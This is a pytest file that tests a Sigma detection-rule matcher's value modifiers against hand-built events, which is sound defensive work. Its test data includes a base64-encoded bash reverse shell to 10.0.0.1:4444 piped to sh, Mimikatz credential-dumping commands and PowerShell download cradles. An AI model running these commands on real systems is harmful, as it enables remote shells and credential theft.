"""Sigma value modifiers, one by one, on hand-built events.

Expected results come from the Sigma specification (rules specification and modifier appendix, v2.1:
examples such as ``cmd`` → ``63 00 6d 00 64 00``) and from independent encoders (Python's ``base64`` and
``codecs``), never from the matcher itself. Rules use a logsource no pipeline maps (``product:
civicsoc_test``), so field names stay as written and only ``event.module`` pins the logsource.
"""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path
from typing import Any

import pytest

from detection.fields import EventView
from detection.rules import Rule, RuleSet, load_rules

MODULE = {"event": {"module": "civicsoc_test"}}


def rule_set(tmp_path: Path, detection: str, *, placeholders: dict[str, list[str]] | None = None) -> RuleSet:
    text = "title: modifier test\nid: 0b0c0d0e-0000-4000-8000-000000000001\nstatus: test\n" \
           "logsource:\n    product: civicsoc_test\ndetection:\n" + textwrap.indent(textwrap.dedent(detection), "    ")
    path = tmp_path / "rule.yml"
    path.write_text(text, encoding="utf-8")
    return load_rules([path], placeholders=placeholders)


def compile_rule(tmp_path: Path, detection: str, **options: Any) -> Rule:
    loaded = rule_set(tmp_path, detection, **options)
    assert not loaded.skipped, loaded.skipped
    (rule,) = loaded.loaded
    return rule


def matches(rule: Rule, fields: dict[str, Any]) -> bool:
    assert rule.matcher is not None
    return rule.matcher(EventView({**MODULE, **fields}))


# --- plain values, wildcards, case ------------------------------------------------------------------------

def test_plain_values_are_case_insensitive_and_whole(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            Image: 'C:\\Windows\\System32\\cmd.exe'
        condition: selection
    """)
    assert matches(rule, {"Image": "c:\\windows\\system32\\CMD.EXE"})
    assert not matches(rule, {"Image": "C:\\Windows\\System32\\cmd.exe.bak"})
    assert not matches(rule, {"Image": "x C:\\Windows\\System32\\cmd.exe"})


def test_wildcards_star_and_question_mark_and_escapes(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        star:
            A: 'ab*yz'
        one:
            B: 'a?c'
        escaped:
            C: 'lit\\*eral'
        condition: star or one or escaped
    """)
    assert matches(rule, {"A": "ABzzzz\nzzYZ"})  # '*' spans newlines
    assert matches(rule, {"A": "abyz"})
    assert not matches(rule, {"A": "abyzz"})
    assert matches(rule, {"B": "abc"})
    assert not matches(rule, {"B": "ac"})
    assert not matches(rule, {"B": "abbc"})
    assert matches(rule, {"C": "LIT*ERAL"})
    assert not matches(rule, {"C": "litXXeral"})


def test_contains_startswith_endswith(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        contains:
            CommandLine|contains: 'Invoke-Mimikatz'
        starts:
            ParentImage|startswith: 'C:\\Users\\'
        ends:
            Image|endswith: '\\rundll32.exe'
        condition: contains and starts and ends
    """)
    event = {"CommandLine": "powershell -c invoke-mimikatz -DumpCreds", "ParentImage": "c:\\users\\bob\\x.exe",
             "Image": "C:\\Windows\\System32\\RUNDLL32.EXE"}
    assert matches(rule, event)
    assert not matches(rule, {**event, "ParentImage": "D:\\c:\\users\\x.exe"})
    assert not matches(rule, {**event, "Image": "C:\\rundll32.exe.mui"})
    assert not matches(rule, {**event, "CommandLine": "Invoke-Mimi katz"})


def test_cased_compares_case_sensitively(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            Payload|cased|contains: 'ReflectiveLoader'
        condition: selection
    """)
    assert matches(rule, {"Payload": "x ReflectiveLoader y"})
    assert not matches(rule, {"Payload": "x reflectiveloader y"})


# --- lists, all, 1 of / all of / them ---------------------------------------------------------------------

def test_value_lists_are_ored_and_all_ands_them(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        any_value:
            CommandLine|contains:
                - ' -enc '
                - ' -EncodedCommand '
        every_value:
            ScriptBlockText|contains|all:
                - 'Net.WebClient'
                - 'DownloadString'
        condition: any_value or every_value
    """)
    assert matches(rule, {"CommandLine": "powershell -encodedcommand AAAA "})
    assert matches(rule, {"ScriptBlockText": "(New-Object Net.WebClient).DownloadString('http://x')"})
    assert not matches(rule, {"ScriptBlockText": "(New-Object Net.WebClient).DownloadFile('http://x')"})


def test_one_of_all_of_and_them_skip_underscore_identifiers(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection_a:
            A: 'x'
        selection_b:
            B: 'y'
        _helper:
            C: 'never'
        condition: all of selection_* and 1 of them
    """)
    assert matches(rule, {"A": "x", "B": "y"})
    assert not matches(rule, {"A": "x"})
    # "them" and "selection_*" leave _helper out (rules specification: identifiers starting with "_")
    rule_them = compile_rule(tmp_path, """
        selection_a:
            A: 'x'
        _helper:
            C: 'never'
        condition: all of them
    """)
    assert matches(rule_them, {"A": "x"})


def test_a_list_of_maps_is_ored(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            - A: 'x'
              B: 'y'
            - C: 'z'
        condition: selection
    """)
    assert matches(rule, {"A": "x", "B": "y"})
    assert matches(rule, {"C": "z"})
    assert not matches(rule, {"A": "x", "C": "q"})


def test_a_list_of_conditions_is_ored(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        first:
            A: 'x'
        second:
            B: 'y'
        condition:
            - first
            - second
    """)
    assert matches(rule, {"B": "y"})
    assert not matches(rule, {"C": "y"})


def test_multi_valued_fields_match_when_any_element_does(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            event.category: 'process'
        filter:
            tags: 'benign'
        condition: selection and not filter
    """)
    assert matches(rule, {"event": {"module": "civicsoc_test", "category": ["host", "process"]}})
    assert not matches(rule, {"event": {"module": "civicsoc_test", "category": ["process"]}, "tags": ["a", "benign"]})


# --- null, exists, numbers, booleans ----------------------------------------------------------------------

def test_null_means_missing_or_null(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            EventID: 4738
        filter:
            PasswordLastSet: null
        condition: selection and not filter
    """)  # the rules specification's own example
    assert matches(rule, {"EventID": 4738, "PasswordLastSet": "2024-01-01"})
    assert not matches(rule, {"EventID": 4738})
    assert not matches(rule, {"EventID": 4738, "PasswordLastSet": None})
    assert matches(rule, {"EventID": 4738, "PasswordLastSet": ""})  # '' is the empty value, not null


def test_exists_checks_presence_only(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            PasswordLastSet|exists: true
        condition: selection
    """)
    assert matches(rule, {"PasswordLastSet": "x"})
    assert matches(rule, {"PasswordLastSet": None})  # "not its value, be it empty or null" (modifier appendix)
    assert not matches(rule, {"Other": "x"})
    absent = compile_rule(tmp_path, """
        selection:
            PasswordLastSet|exists: false
        condition: selection
    """)
    assert absent.matcher is not None
    assert matches(absent, {"Other": "x"})
    assert not matches(absent, {"PasswordLastSet": ""})


def test_numbers_match_numbers_and_their_text(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            EventID: 4625
        condition: selection
    """)
    assert matches(rule, {"EventID": 4625})
    assert matches(rule, {"EventID": "4625"})  # event.code is a keyword: the text of the number
    assert not matches(rule, {"EventID": "04625"})
    assert not matches(rule, {"EventID": 46250})


def test_booleans(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            Initiated: true
        condition: selection
    """)
    assert matches(rule, {"Initiated": True})
    assert matches(rule, {"Initiated": "true"})  # Windows renders booleans as text
    assert not matches(rule, {"Initiated": False})


@pytest.mark.parametrize(("modifier", "inside", "outside"), [
    ("gt", [11, "11", 10.5], [10, "10", "x"]),
    ("gte", [10, "10.0", 99], [9, "9.99"]),
    ("lt", [9, "-3", 9.99], [10, "10"]),
    ("lte", [10, 0], [11, "10.01"]),
])
def test_numeric_comparisons(tmp_path: Path, modifier: str, inside: list[Any], outside: list[Any]) -> None:
    rule = compile_rule(tmp_path, f"""
        selection:
            Count|{modifier}: 10
        condition: selection
    """)
    for value in inside:
        assert matches(rule, {"Count": value}), value
    for value in outside:
        assert not matches(rule, {"Count": value}), value


def test_neq_negates_the_match(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            LogonType|neq: 3
            User: 'x'
        condition: selection
    """)
    assert matches(rule, {"LogonType": "10", "User": "x"})
    assert not matches(rule, {"LogonType": "3", "User": "x"})


# --- regular expressions ----------------------------------------------------------------------------------

def test_re_is_a_case_sensitive_unanchored_search(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, r"""
        selection:
            CommandLine|re: '\$PSHome\[\s*\d{1,3}\s*\]'
        condition: selection
    """)
    assert matches(rule, {"CommandLine": "iex ($PSHome[ 21]+$PSHome[30]+'x')"})
    assert not matches(rule, {"CommandLine": "iex ($pshome[21])"})


def test_re_flags_i_m_s(tmp_path: Path) -> None:
    rule_i = compile_rule(tmp_path, """
        selection:
            A|re|i: '^foo$'
        condition: selection
    """)
    assert matches(rule_i, {"A": "FOO"})
    rule_m = compile_rule(tmp_path, """
        selection:
            A|re|m: '^bar$'
        condition: selection
    """)
    assert matches(rule_m, {"A": "foo\nbar\nbaz"})
    rule_plain = compile_rule(tmp_path, """
        selection:
            A|re: '^bar$'
        condition: selection
    """)
    assert not matches(rule_plain, {"A": "foo\nbar\nbaz"})
    rule_s = compile_rule(tmp_path, """
        selection:
            A|re|s: 'a.b'
        condition: selection
    """)
    assert matches(rule_s, {"A": "a\nb"})
    assert not matches(rule_plain, {"A": "a\nb"})


# --- encodings --------------------------------------------------------------------------------------------

def test_base64_encodes_the_whole_value(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            Data|base64: 'http://'
        condition: selection
    """)
    assert matches(rule, {"Data": base64.b64encode(b"http://").decode()})
    assert not matches(rule, {"Data": base64.b64encode(b"xhttp://").decode()})


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_base64offset_finds_the_value_at_every_byte_offset(tmp_path: Path, offset: int) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            CommandLine|base64offset|contains: '/bin/bash'
        condition: selection
    """)
    payload = base64.b64encode(b"x" * offset + b"echo hi; /bin/bash -i >& /dev/tcp/10.0.0.1/4444").decode()
    assert matches(rule, {"CommandLine": f"echo {payload} | base64 -d | sh"})
    assert not matches(rule, {"CommandLine": base64.b64encode(b"x" * offset + b"/bin/sh -i").decode()})


def test_base64offset_expansions_are_the_published_ones(tmp_path: Path) -> None:
    """The three variants Sigma's documentation lists for ``/bin/bash``."""
    rule = compile_rule(tmp_path, """
        selection:
            A|base64offset: '/bin/bash'
        condition: selection
    """)
    for variant in ("L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"):
        assert matches(rule, {"A": variant})


@pytest.mark.parametrize(("modifier", "codec"), [
    ("wide", "utf-16-le"),
    ("utf16le", "utf-16-le"),
    ("utf16be", "utf-16-be"),
    ("utf16", "utf-16"),  # Python's "utf-16" writes the FF FE byte order mark, as the appendix specifies
])
def test_utf16_modifiers_with_base64offset_find_encoded_commands(tmp_path: Path, modifier: str, codec: str) -> None:
    rule = compile_rule(tmp_path, f"""
        selection:
            CommandLine|{modifier}|base64offset|contains: 'Invoke-WebRequest'
        condition: selection
    """)
    encoded = base64.b64encode("Invoke-WebRequest -Uri http://x/y.ps1".encode(codec)).decode()
    assert matches(rule, {"CommandLine": f"powershell.exe -EncodedCommand {encoded}"})
    other = base64.b64encode("Invoke-RestMethod -Uri http://x/y.ps1".encode(codec)).decode()
    assert not matches(rule, {"CommandLine": f"powershell.exe -EncodedCommand {other}"})


def test_utf16_is_the_specified_bytes(tmp_path: Path) -> None:
    """Appendix: ``cmd`` → ``FF FE 63 00 6d 00 64 00`` (utf16), ``63 00 6d 00 64 00`` (utf16le),
    ``00 63 00 6d 00 64`` (utf16be)."""
    rule = compile_rule(tmp_path, """
        bom:
            A|utf16|base64: 'cmd'
        le:
            B|utf16le|base64: 'cmd'
        be:
            C|utf16be|base64: 'cmd'
        condition: bom and le and be
    """)
    assert matches(rule, {
        "A": base64.b64encode(bytes.fromhex("FF FE 63 00 6d 00 64 00")).decode(),
        "B": base64.b64encode(bytes.fromhex("63 00 6d 00 64 00")).decode(),
        "C": base64.b64encode(bytes.fromhex("00 63 00 6d 00 64")).decode(),
    })


def test_windash_accepts_every_dash_character(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        selection:
            CommandLine|windash|contains: ' -exec bypass'
        condition: selection
    """)
    for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):  # -, /, en dash, em dash, horizontal bar
        assert matches(rule, {"CommandLine": f"powershell {dash}exec bypass -file x.ps1"}), dash
    assert not matches(rule, {"CommandLine": "powershell +exec bypass"})


# --- cidr, fieldref, expand, time parts, keywords ---------------------------------------------------------

def test_cidr_ipv4_and_ipv6(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        v4:
            DestinationIp|cidr: '10.0.0.0/8'
        v6:
            DestinationIp|cidr: 'fe80::/10'
        condition: v4 or v6
    """)
    assert matches(rule, {"DestinationIp": "10.200.3.4"})
    assert matches(rule, {"DestinationIp": "::ffff:10.1.2.3"})  # IPv4-mapped, as Windows writes logon peers
    assert matches(rule, {"DestinationIp": "fe80:0:0:0:80ac:4126:fa58:1b81"})  # Sysmon's expanded form
    assert not matches(rule, {"DestinationIp": "11.0.0.1"})
    assert not matches(rule, {"DestinationIp": "-"})


def test_fieldref_compares_two_fields(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        same:
            SubjectUserName|fieldref: TargetUserName
        condition: same
    """)
    assert matches(rule, {"SubjectUserName": "Admin", "TargetUserName": "admin"})
    assert not matches(rule, {"SubjectUserName": "Admin", "TargetUserName": "guest"})
    assert not matches(rule, {"SubjectUserName": "Admin"})
    partial = compile_rule(tmp_path, """
        inside:
            CommandLine|fieldref|contains: Image
        condition: inside
    """)
    assert matches(partial, {"CommandLine": "\"C:\\a\\b.exe\" -x", "Image": "C:\\a\\b.exe"})
    assert not matches(partial, {"CommandLine": "b.exe -x", "Image": "C:\\a\\b.exe"})


def test_expand_uses_configured_placeholder_values(tmp_path: Path) -> None:
    detection = """
        selection:
            TargetUserName|expand: '%Administrators%'
        condition: selection
    """
    rule = compile_rule(tmp_path, detection, placeholders={"Administrators": ["adm_*", "root"]})
    assert matches(rule, {"TargetUserName": "ADM_bob"})
    assert matches(rule, {"TargetUserName": "root"})
    assert not matches(rule, {"TargetUserName": "bob"})


def test_expand_without_configured_values_skips_the_rule_with_the_reason(tmp_path: Path) -> None:
    loaded = rule_set(tmp_path, """
        selection:
            TargetUserName|expand: '%Administrators%'
        condition: selection
    """)
    assert loaded.loaded == ()
    (skipped,) = loaded.skipped
    assert skipped.rule_id == "0b0c0d0e-0000-4000-8000-000000000001"
    assert "%Administrators%" in skipped.reason


@pytest.mark.parametrize(("modifier", "number"), [
    ("minute", 7), ("hour", 3), ("day", 29), ("week", 52), ("month", 12), ("year", 2024),
])
def test_time_part_modifiers(tmp_path: Path, modifier: str, number: int) -> None:
    rule = compile_rule(tmp_path, f"""
        selection:
            '@timestamp|{modifier}': {number}
        condition: selection
    """)
    # 2024-12-29 03:07 UTC is a Sunday in ISO week 52 of 2024 (checked against a calendar)
    assert matches(rule, {"@timestamp": "2024-12-29T03:07:45.000000Z"})
    assert not matches(rule, {"@timestamp": "2023-01-02T04:08:00Z"})


def test_keywords_search_every_text_of_the_event(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        keywords:
            - 'sekurlsa::'
            - '\\mimilib.dll'
        condition: keywords
    """)
    assert matches(rule, {"message": "mimikatz # SEKURLSA::logonpasswords"})
    assert matches(rule, {"winlog": {"event_data": {"ImageLoaded": "C:\\Temp\\MIMILIB.DLL"}}})
    assert matches(rule, {"deep": [{"list": ["x", "c:\\x\\mimilib.dll"]}]})
    assert not matches(rule, {"message": "sekurlsa", "other": "::"})  # never across two fields
    assert not matches(rule, {"message": "mimilib.dll"})


def test_keywords_with_all_must_all_appear(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        keywords_cmdlet:
            '|all':
                - 'OabVirtualDirectory'
                - ' -ExternalUrl '
        condition: keywords_cmdlet
    """)  # the rules specification's example
    assert matches(rule, {"a": "Set-OabVirtualDirectory", "b": "x -ExternalUrl http://y"})
    assert not matches(rule, {"a": "Set-OabVirtualDirectory -InternalUrl http://y"})


def test_keywords_handle_non_ascii_events_exactly(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, """
        keywords:
            - 'mot de passe'
        condition: keywords
    """)
    assert matches(rule, {"message": "Échec: MOT DE PASSE incorrect pour élodie"})
    assert not matches(rule, {"message": "Échec: mot-de-passe"})
